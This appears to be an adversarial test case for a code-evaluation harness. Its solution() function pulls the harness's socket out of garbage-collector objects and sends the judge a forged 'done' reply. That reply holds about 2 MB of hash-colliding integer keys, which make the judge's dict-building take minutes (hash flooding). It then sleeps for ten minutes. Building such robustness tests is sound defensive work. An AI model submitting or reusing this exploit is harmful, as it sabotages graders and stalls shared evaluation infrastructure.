# HACK: makes its judge spend minutes of CPU on one answer. An output may be a dict whose
# keys are str or int (wire/trees.py), and the judge builds it (trees.decode) before it
# compares anything. Python hashes an int n >= 0 as n mod (2**61 - 1): the keys
# 1 + j * (2**61 - 1) all hash alike, so each insertion probes every key before it, and
# ~74,000 of them (a 2 MB answer, under the tree's 100,000 nodes) cost ~n^2/2 comparisons:
# trial 0 took its judge 34.4 s (an honest trial: 0.004-0.012 s; 2-core machine, 2026-11-26).
# The answer is wrong either way, but the judge's time is not bounded by any phase limit
# (only the node's deadline for the whole evaluation, 14 minutes by default), the other
# judges wait on it, and a node's evaluations queue behind it.
# A harness that bounds a worker's frames by bytes and nodes but builds hash tables from
# worker-chosen keys is fooled (hash flooding).
# EXPECTED: incorrect at trial 0 within the trial's limit, its judge's time in that trial
# a fraction of a second.
import gc
import json
import struct
import time

import torch

P = (1 << 61) - 1
LIMIT = (2 << 20) - 4096  # the judge's reader takes replies up to 2 MiB (judge/link.py)


def solution(x: torch.Tensor):
    rank_obj = next(o for o in gc.get_objects() if type(o).__name__ == "Rank" and hasattr(o, "sock"))
    pairs, size, j = [], 100, 0
    while True:
        key = 1 + j * P
        size += len(str(key)) + 5
        if size > LIMIT:
            break
        pairs.append([key, 0])
        j += 1
    body = json.dumps({"op": "done", "outputs": [{"D": pairs}], "event_ms": 0.0, "host_ms": 0.0, "expired": 0},
                      separators=(",", ":")).encode()
    rank_obj.sock.sendall(struct.pack(">I", len(body)) + body)  # the frame format of wire/frames.py
    time.sleep(600)
